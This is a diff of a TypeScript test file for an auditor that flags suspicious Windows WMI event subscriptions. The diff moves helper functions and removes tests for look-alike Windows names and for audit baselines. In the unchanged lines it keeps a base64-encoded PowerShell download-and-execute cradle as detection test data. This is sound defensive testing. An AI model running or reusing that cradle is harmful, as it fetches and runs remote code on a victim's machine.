@@ -3,8 +3,7 @@ import { beforeEach, describe, expect, test } from 'vitest';
 import type { FakeNamespace } from '../subscriptions/testing.ts';
 import { audit } from './audit.ts';
 import { openFindings } from './audit-report.ts';
-import { baselineOf, parseBaseline } from './baseline.ts';
-import { machine, type Planted, plant, rulesFor } from './testing.ts';
+import { commandLine, logFile, machine, type Planted, plant, rulesFor, script } from './testing.ts';
 
 let root: FakeNamespace;
 let subscription: FakeNamespace;
@@ -16,19 +15,6 @@ beforeEach(() => {
 const ENCODED = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString(
   'base64',
 );
-
-const commandLine = (CommandLineTemplate: string | null, ExecutablePath: string | null = null): Planted => ({
-  className: 'CommandLineEventConsumer',
-  consumer: { CommandLineTemplate, ExecutablePath },
-});
-const script = (ScriptText: string): Planted => ({
-  className: 'ActiveScriptEventConsumer',
-  consumer: { ScriptingEngine: 'VBScript', ScriptText },
-});
-const logFile = (Filename: string): Planted => ({
-  className: 'LogFileEventConsumer',
-  consumer: { Filename, Text: '%TargetInstance.Name%' },
-});
 
 test('a machine without subscriptions is clean, all its namespaces looked at', async () => {
   const report = await audit(root);
@@ -274,58 +260,6 @@ describe('what is not whole', () => {
   });
 });
 
-describe('names of Windows', () => {
-  const genuine: Planted = {
-    name: 'SCM Event Log Filter',
-    query: 'select * from MSFT_SCMEventLogEvent',
-    eventAccess: null,
-    eventNamespace: 'root\\cimv2',
-    binding: { Consumer: 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"' },
-  };
-  const plantGenuine = (where: FakeNamespace, changes: Planted = {}) => {
-    plant(where, { ...genuine, ...changes });
-    where.instances.delete('nteventlogeventconsumer.name="scm event log filter"');
-    where.plant('NTEventLogEventConsumer', {
-      Name: 'SCM Event Log Consumer',
-      SourceName: 'Service Control Manager',
-      NameOfUserSidProperty: 'sid',
-    });
-  };
-
-  test('what Windows brings is accepted as known', async () => {
-    plantGenuine(subscription);
-    const report = await audit(root);
-    expect(report.findings.map(({ accepted }) => accepted)).toEqual(['known', 'known']);
-    expect(openFindings(report)).toEqual([]);
-  });
-
-  test.each<[string, Planted]>([
-    ['another query', { query: 'SELECT * FROM Win32_ProcessStartTrace' }],
-    ['the rights of the publisher', { binding: { ...genuine.binding, MaintainSecurityContext: true } }],
-  ])('its name with %s is a look-alike', async (_, changes) => {
-    plantGenuine(subscription, changes);
-    expect(await rulesFor(root)).toContain('look-alike');
-  });
-
-  test('its name in another namespace is a look-alike', async () => {
-    plantGenuine(root.children.get('default')!);
-    expect(await rulesFor(root)).toContain('look-alike');
-  });
-
-  test.each(['SCM Event Filter', 'SCM Events Log Filter', 'ЅСМ Event Log Filter', 'scm_event_log_consumer'])(
-    '%s is a look-alike',
-    async (name) => {
-      plant(subscription, { name });
-      expect(await rulesFor(root)).toEqual(['look-alike']);
-    },
-  );
-
-  test.each(['Event Log', 'Acme Event Forwarder', 'Service Filter'])('%s is not', async (name) => {
-    plant(subscription, { name });
-    expect(await rulesFor(root)).toEqual([]);
-  });
-});
-
 describe('rules 14: who can write subscriptions', () => {
   test.each<[string, string, string[]]>([
     ['full write', 'O:BAG:BAD:(A;;CCDCLCSWRP;;;S-1-5-21-1-2-3-1001)', ['subscription-writers']],
@@ -393,41 +327,4 @@ describe('what cannot be read', () => {
     inner.plant('__Namespace', { Name: 'a' });
     await expect(audit(root, { maxNamespaces: 20 })).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
   });
-});
-
-describe('baselines', () => {
-  const open = async (baseline?: ReturnType<typeof parseBaseline>) =>
-    openFindings(await audit(root, { baseline })).map(({ rule }) => rule);
-
-  test('what is accepted does not count, in any order and on any machine', async () => {
-    plant(subscription, { name: 'a', ...script('x = 1') });
-    plant(subscription, { name: 'b', ...commandLine('agent.exe') });
-    const baseline = parseBaseline(JSON.stringify(baselineOf([await audit(root, { host: 'HOST' })])));
-    const entries = [...subscription.instances].reverse();
-    subscription.instances.clear();
-    for (const [path, { properties, ...rest }] of entries) {
-      const turned = Object.fromEntries(Object.entries(properties).reverse());
-      subscription.instances.set(path, { ...rest, properties: turned });
-    }
-    expect(await open(baseline)).toEqual([]);
-    expect(await open()).not.toEqual([]);
-  });
-
-  test.each<[string, Planted]>([
-    ['the command', commandLine('agent.exe -y')],
-    ['the query', { ...commandLine('agent.exe -x'), query: 'SELECT * FROM Other' }],
-    ['the access', { ...commandLine('agent.exe -x'), eventAccess: 'O:BAG:BAD:(A;;LO;;;SY)' }],
-  ])('a change of %s is found again', async (_, changed) => {
-    plant(subscription, commandLine('agent.exe -x'));
-    const baseline = baselineOf([await audit(root)]);
-    plant(subscription, changed);
-    expect(await open(baseline)).toContain('runs-command');
-  });
-
-  test.each(['', '{}', '{"version":2}', '{"version":1,"accepted":[{"fingerprint":"x"}]}', '[', 'null'])(
-    '%j is no baseline',
-    (text) => {
-      expect(() => parseBaseline(text)).toThrow(expect.objectContaining({ code: 'INVALID_BASELINE' }));
-    },
-  );
 });
